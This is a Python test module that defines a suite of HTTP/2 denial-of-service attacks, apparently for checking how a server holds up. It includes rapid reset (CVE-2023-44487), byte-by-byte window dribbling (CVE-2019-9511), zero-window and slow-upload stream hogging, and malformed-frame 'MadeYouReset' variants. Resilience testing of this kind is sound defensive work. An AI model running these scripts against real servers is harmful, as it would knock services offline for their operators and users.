"""Streams over HTTP/2: more than are allowed, reset as soon as they are open, or held for as long as it goes."""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks import h2
from tests.attacks.attack import Attack
from tests.attacks.script import MakeScript, Pause, Script
from tests.bench.http2_frames import DATA, INITIAL_WINDOW_SIZE, WINDOW_UPDATE, frame

FEW, HOG, STREAMS = 8, 11, 100
CANCEL = (8).to_bytes(4)
MOST_CREDIT = (2**31 - 1).to_bytes(4)
TRICKLE_SECONDS = 2.0
DRIBBLE_SECONDS = 0.01
EVERY_STREAM = range(1, 2 * STREAMS, 2)


def each(follow: Callable[[int], bytes], path: str = "/") -> MakeScript:
    """A request on every stream, and at once what ``follow`` makes of the stream's number."""

    def script(secure: bool) -> Script:
        yield from h2.opening()
        block = h2.fields(secure, path)
        yield from h2.streams(_Unit(block, follow))

    return script


class _Unit:
    """A request with what follows it. Equal ones are one, so that their pieces are made once."""

    def __init__(self, block: bytes, follow: Callable[[int], bytes]) -> None:
        self._key = (block, follow)

    def __call__(self, stream: int) -> bytes:
        block, follow = self._key
        return h2.request(stream, block) + follow(stream)

    def __eq__(self, other: object) -> bool:
        return isinstance(other, _Unit) and self._key == other._key

    def __hash__(self) -> int:
        return hash(self._key)


def nothing(_stream: int) -> bytes:
    return b""


def reset(stream: int) -> bytes:
    return frame(h2.RST_STREAM, 0, stream, CANCEL)


def no_credit(stream: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, bytes(4))


def too_much_credit(stream: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, MOST_CREDIT)


def short_priority(stream: int) -> bytes:
    return frame(h2.PRIORITY, 0, stream, bytes(4))


def own_parent(stream: int) -> bytes:
    return frame(h2.PRIORITY, 0, stream, stream.to_bytes(4) + b"\x00")


def second_head(stream: int) -> bytes:
    return h2.request(stream, h2.fields(secure=False))


def late_data(stream: int) -> bytes:
    return frame(DATA, 0, stream, b"x")


def hog(secure: bool) -> Script:
    """Uploads of which one byte arrives now and then."""
    yield from h2.opening()
    block = h2.fields(secure, "/upload", "POST")
    yield b"".join(h2.request(stream, block, end=False) for stream in EVERY_STREAM)
    while True:
        yield Pause(TRICKLE_SECONDS)
        yield b"".join(frame(DATA, 0, stream, b"x") for stream in EVERY_STREAM)


def unread(path: str) -> MakeScript:
    """Requests whose responses get no window."""

    def script(secure: bool) -> Script:
        yield from h2.opening({INITIAL_WINDOW_SIZE: 0})
        yield b"".join(h2.request(stream, h2.fields(secure, path)) for stream in EVERY_STREAM)

    return script


def dribble(secure: bool) -> Script:
    """Responses that are read byte by byte (CVE-2019-9511)."""
    yield from h2.opening({INITIAL_WINDOW_SIZE: 0})
    yield b"".join(h2.request(stream, h2.fields(secure, "/large")) for stream in EVERY_STREAM)
    one = (1).to_bytes(4)
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, one) for stream in EVERY_STREAM)
        yield Pause(DRIBBLE_SECONDS)


def _provoked(name: str, title: str, follow: Callable[[int], bytes]) -> Attack:
    return Attack(f"made-you-reset-{name}", f"MadeYouReset: requests, each reset by {title}", "h2", FEW, each(follow))


ATTACKS = (
    Attack("hog", f"{HOG} x {STREAMS} uploads that never arrive", "h2", HOG, hog, none_refused=True),
    Attack("headers-flood", "requests beyond the concurrent streams, 256 KiB of them in one piece", "h2", FEW,
           each(nothing)),
    Attack("rapid-reset", "requests, each reset at once (CVE-2023-44487)", "h2", FEW, each(reset)),
    _provoked("no-credit", "WINDOW_UPDATE of 0", no_credit),
    _provoked("too-much-credit", "WINDOW_UPDATE beyond 2³¹-1", too_much_credit),
    _provoked("short-priority", "PRIORITY of 4 bytes", short_priority),
    _provoked("own-parent", "PRIORITY that depends on itself", own_parent),
    _provoked("second-head", "HEADERS after END_STREAM", second_head),
    _provoked("late-data", "DATA after END_STREAM", late_data),
    Attack("zero-window", f"{HOG} x {STREAMS} responses of the same 10 MiB, no window", "h2", HOG, unread("/large")),
    Attack("zero-window-fresh", f"{HOG} x {STREAMS} responses of 1 MiB each, no window", "h2", HOG, unread("/fresh")),
    Attack("dribble", f"{HOG} x {STREAMS} responses of 10 MiB, read byte by byte", "h2", HOG, dribble),
)  # fmt: skip
